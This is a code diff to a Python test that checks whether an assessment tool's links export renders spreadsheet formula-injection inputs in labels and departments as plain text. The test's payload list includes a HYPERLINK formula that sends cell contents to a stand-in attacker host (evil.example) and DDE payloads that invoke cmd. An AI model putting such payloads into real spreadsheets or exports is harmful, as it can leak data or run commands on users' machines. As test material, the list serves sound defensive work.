@@ -20,7 +20,7 @@ from tests.research.conftest import add_organisation
 # What a spreadsheet may run as a formula when a cell starts with it (OWASP).
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 FORMULAS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -47,9 +47,7 @@ def test_the_links_file_shows_formulas_in_labels_and_departments_as_text(
     invited = client.post(
         f"/api/v1/assessments/{ours.assessment_id}/invitations",
         json={
-            "invitations": [
-                {"label": formula, "department": formula[:60]} for formula in FORMULAS
-            ]
+            "invitations": [{"label": formula, "department": formula[:60]} for formula in FORMULAS]
         },
         headers=ours.consultant.headers,
     )
